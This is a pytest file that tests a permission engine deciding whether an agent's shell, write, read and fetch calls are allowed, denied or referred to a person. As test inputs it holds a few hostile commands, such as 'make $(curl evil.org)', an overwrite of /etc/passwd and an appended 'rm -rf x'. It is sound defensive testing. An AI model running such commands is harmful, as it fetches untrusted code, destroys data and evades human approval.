"""How a policy decides about a call."""

from collections.abc import Sequence

import pytest

from agent_svc.agents.base.permissions import Verdict, decide, runs_anything
from agent_svc.agents.base.tool_vocabulary import ToolCall, relative_target
from heddle import pb
from heddle.plan.permission_patterns import rule_for

ASK, ALLOW, DENY = Verdict.ASK, Verdict.ALLOW, Verdict.DENY


def verdict(
    permissions: pb.Permissions, tool: str, target: str = "", *, writes: bool = False, reads: bool = False
) -> Verdict:
    return decide(permissions, [tool], target, writes_inside=writes, reads=reads).verdict


def policy(
    default: "pb.PermissionDecision.ValueType" = pb.PERMISSION_DECISION_UNSPECIFIED,
    allow: Sequence[str] = (),
    deny: Sequence[str] = (),
) -> pb.Permissions:
    return pb.Permissions(default=default, allow=allow, deny=deny)


def test_asks_unless_told_otherwise() -> None:
    """Without a policy, reads and writes in the worktree are allowed, and other calls create a question."""
    assert verdict(policy(), "Read", "a.txt", reads=True) is ALLOW
    assert verdict(policy(), "Write", "a.txt", writes=True) is ALLOW
    assert verdict(policy(), "Write", "/etc/passwd") is ASK
    assert verdict(policy(), "Bash", "ls") is ASK


@pytest.mark.parametrize(
    ("default", "expected"),
    [
        (pb.PERMISSION_DECISION_ASK, ASK),
        (pb.PERMISSION_DECISION_ALLOW, ALLOW),
        (pb.PERMISSION_DECISION_DENY, DENY),
    ],
)
def test_the_default_is_for_the_rest(default: "pb.PermissionDecision.ValueType", expected: Verdict) -> None:
    """The default decides only calls that no rule covers, and never denies reading."""
    assert verdict(policy(default), "Bash", "ls") is expected
    assert verdict(policy(default), "Read", "a.txt", reads=True) is ALLOW


def test_deny_wins_over_all() -> None:
    """A denied call is denied even if another rule allows it."""
    strict = policy(
        pb.PERMISSION_DECISION_ALLOW,
        allow=["Bash(*)", "Write"],
        deny=["Bash(git push:*)", "Write(secret/**)"],
    )
    assert verdict(strict, "Bash", "make && git push origin") is DENY
    assert verdict(strict, "Write", "secret/a", writes=True) is DENY
    assert verdict(strict, "Bash", "make") is ALLOW


def test_every_part_of_a_command_must_be_allowed() -> None:
    """Different patterns may allow the parts; one other part makes all of it a question."""
    some = policy(allow=["Bash(make:*)", "Bash(git status)"])
    assert verdict(some, "Bash", "make all && git status") is ALLOW
    assert verdict(some, "Bash", "make all && git push") is ASK
    assert verdict(some, "Bash", "make $(curl evil.org)") is ASK
    assert verdict(some, "Bash", "make > /etc/passwd") is ASK
    assert verdict(some, "Bash", "") is ASK


@pytest.mark.parametrize("command", ["make $(id) > log", "a && b", "ls *.py", "echo [x]\necho y"])
def test_a_rule_for_a_command_allows_it_whole_and_no_other(command: str) -> None:
    """A rule allows the whole command; a longer one is a question, a denied one is denied."""
    rule = rule_for("Bash", command)
    assert verdict(policy(allow=[rule]), "Bash", command) is ALLOW
    assert verdict(policy(allow=[rule]), "Bash", f"{command} && rm -rf x") is ASK
    assert verdict(policy(allow=[rule], deny=["Bash"]), "Bash", command) is DENY


def test_a_malformed_pattern_opens_nothing() -> None:
    """A malformed pattern allows nothing as an allow rule and denies everything as a deny rule."""
    assert verdict(policy(allow=["Bash("]), "Bash", "ls") is ASK
    assert verdict(policy(deny=["Bash("]), "Read", "a.txt", reads=True) is DENY


def call(name: str, target: str, kind: "pb.ToolKind.ValueType") -> ToolCall:
    return ToolCall(id="1", name=name, target=target, kind=kind, input="")


@pytest.mark.parametrize(
    "target", [".git", ".git/config", "a/.GIT/hooks/x", ".claude/settings.json", "/etc/passwd", ""]
)
def test_some_files_are_more_than_files(target: str) -> None:
    """Writing a file that git or an agent obeys, or one outside of the worktree, needs a permission."""
    assert not call("Write", target, pb.TOOL_KIND_EDIT).writes_inside
    assert call("Write", "src/claude/.gitignore", pb.TOOL_KIND_EDIT).writes_inside


def test_targets_are_relative_to_the_worktree(tmp_path_factory: pytest.TempPathFactory) -> None:
    """A path inside is relative, a path outside is absolute, and a link is resolved to its target."""
    worktree = tmp_path_factory.mktemp("tree")
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    (worktree / "out").symlink_to(elsewhere)
    assert relative_target(worktree, str(worktree / "a" / "b")) == "a/b"
    assert relative_target(worktree, "a/../b") == "b"
    assert relative_target(worktree, "out/x") == str(elsewhere / "x")
    assert relative_target(worktree, "../x") == str(worktree.parent / "x")


def test_what_only_the_run_shows_is_asked_for() -> None:
    """A call that may be a denied one needs an answer, even with `Bash(*)`, and that answer allows exactly this call."""
    strict = policy(pb.PERMISSION_DECISION_ALLOW, allow=["Bash(*)"], deny=["Bash(git push:*)"])
    assert verdict(strict, "Bash", "git $x") is ASK
    strict.allow.append(rule_for("Bash", "git $x"))
    assert verdict(strict, "Bash", "git $x") is ALLOW
    assert verdict(strict, "Bash", "git $y") is ASK
    assert verdict(policy(pb.PERMISSION_DECISION_DENY, deny=["Bash(git push:*)"]), "Bash", "git $x") is DENY


def test_a_long_command_has_a_bounded_cost() -> None:
    """A command of thousands of parts is compared only as far as a decision needs, and never taken for harmless."""
    strict = policy(pb.PERMISSION_DECISION_ALLOW, deny=["Bash(git push:*)"])
    assert verdict(strict, "Bash", "; ".join(f"echo {number}" for number in range(4_000))) is ASK


@pytest.mark.parametrize(
    ("permissions", "anything"),
    [
        (policy(), False),
        (policy(pb.PERMISSION_DECISION_ALLOW), True),
        (policy(pb.PERMISSION_DECISION_DENY), False),
        (policy(allow=["Bash(*)"]), True),
        (policy(allow=["Bash(make:*)"]), False),
        (policy(pb.PERMISSION_DECISION_ALLOW, deny=["Write"]), True),
        (policy(pb.PERMISSION_DECISION_ALLOW, deny=["Write", "Bash(git push:*)"]), False),
        (policy(pb.PERMISSION_DECISION_ALLOW, deny=["mcp__*"]), False),
        (policy(pb.PERMISSION_DECISION_ALLOW, deny=["Write("]), False),
    ],
)
def test_any_command_may_run_only_without_a_rule_about_commands(
    permissions: pb.Permissions, *, anything: bool
) -> None:
    """All commands are allowed by a pattern or the default, unless a denial is about commands or malformed."""
    assert runs_anything(permissions) is anything


def test_a_call_with_two_names_is_denied_by_either() -> None:
    """An agent's own name of a tool and the usual one are both compared with a denial, and with an exact approval."""
    strict = policy(pb.PERMISSION_DECISION_ALLOW, deny=["WebFetch"])
    for names in (["fetch_url", "WebFetch"], ["WebFetch", "fetch_url"]):
        assert decide(strict, names, "https://x/", writes_inside=False, reads=False).verdict is DENY
    doubtful = policy(allow=[rule_for("Bash", "git $verb")], deny=["Bash(git push:*)"])
    for names in (["shell", "Bash"], ["Bash", "shell"]):
        assert decide(doubtful, names, "git $verb", writes_inside=False, reads=False).verdict is ALLOW
